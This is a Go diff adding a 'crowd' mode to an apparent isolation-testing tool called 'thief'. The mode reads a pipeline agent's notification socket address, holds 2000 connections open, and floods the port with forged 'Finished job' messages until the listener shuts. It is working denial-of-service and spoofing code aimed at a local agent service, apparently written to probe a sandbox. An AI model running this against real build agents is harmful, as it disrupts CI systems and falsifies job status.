@@ -8,6 +8,7 @@
 //	thief PLAN           look everywhere
 //	thief PLAN files     look at the plan's folders alone
 //	thief PLAN lie       only lie
+//	thief PLAN crowd     keep the listener from the notification port, and lie there
 //	thief PLAN userns    look at azptend alone, from a user namespace of its own
 package main
 
@@ -15,6 +16,7 @@ import (
 	"bufio"
 	"bytes"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net"
 	"net/http"
@@ -22,6 +24,8 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"syscall"
 	"time"
 )
@@ -75,7 +79,7 @@ func main() {
 
 func steal(args []string) error {
 	if len(args) < 2 {
-		return fmt.Errorf("usage: thief PLAN [files|lie|userns]")
+		return fmt.Errorf("usage: thief PLAN [files|lie|crowd|userns]")
 	}
 	t := &thief{seen: map[finding]bool{}}
 	b, err := os.ReadFile(args[1])
@@ -93,6 +97,8 @@ func steal(args []string) error {
 		t.folders()
 	case "lie":
 		t.lie()
+	case "crowd":
+		t.crowd()
 	case "userns":
 		t.via = "userns "
 		t.supervisor()
@@ -186,15 +192,11 @@ const forged = "f0f0f0f0-0000-4000-8000-00000000dead"
 
 // lie tells azptend that the job has ended, at the address that .agent names.
 func (t *thief) lie() {
-	b, err := os.ReadFile(filepath.Join(os.Getenv("AGENT_HOMEDIRECTORY"), ".agent"))
-	if err != nil {
+	address := notificationAddress()
+	if address == "" {
 		return
 	}
-	var settings struct{ NotificationSocketAddress string }
-	if json.Unmarshal(b, &settings) != nil || settings.NotificationSocketAddress == "" {
-		return
-	}
-	conn, err := net.DialTimeout("tcp4", settings.NotificationSocketAddress, 5*time.Second)
+	conn, err := net.DialTimeout("tcp4", address, 5*time.Second)
 	if err != nil {
 		t.end.Denied++
 		return
@@ -204,7 +206,56 @@ func (t *thief) lie() {
 		_, err = fmt.Fprintf(conn, "Finished job: %s", job)
 	}
 	if err == nil {
-		t.found("notification port", settings.NotificationSocketAddress, "azptend's ear")
+		t.found("notification port", address, "azptend's ear")
+	}
+}
+
+// notificationAddress is what .agent names; "" where it names none.
+func notificationAddress() string {
+	b, err := os.ReadFile(filepath.Join(os.Getenv("AGENT_HOMEDIRECTORY"), ".agent"))
+	if err != nil {
+		return ""
+	}
+	var settings struct{ NotificationSocketAddress string }
+	_ = json.Unmarshal(b, &settings)
+	return settings.NotificationSocketAddress
+}
+
+// held is how many connections the crowd keeps open, and floods how many of it
+// connect as fast as they can.
+const held, floods = 2000, 4
+
+// crowd connects without end, says nothing on some connections and lies on others,
+// until the port is closed behind the listener.
+func (t *thief) crowd() {
+	address := notificationAddress()
+	var kept []net.Conn
+	for range held {
+		if conn, err := net.Dial("tcp4", address); err == nil {
+			kept = append(kept, conn)
+		}
+	}
+	var all sync.WaitGroup
+	var came atomic.Int64
+	for range floods {
+		all.Go(func() {
+			for {
+				conn, err := net.DialTimeout("tcp4", address, time.Second)
+				if errors.Is(err, syscall.ECONNREFUSED) {
+					return
+				}
+				if err == nil {
+					came.Add(1)
+					fmt.Fprintf(conn, "Starting job: %[1]sFinished job: %[1]s", forged)
+					conn.Close()
+				}
+			}
+		})
+	}
+	all.Wait()
+	t.found("crowd", fmt.Sprint(came.Load()+int64(len(kept))), "connections")
+	for _, conn := range kept {
+		conn.Close()
 	}
 }
 
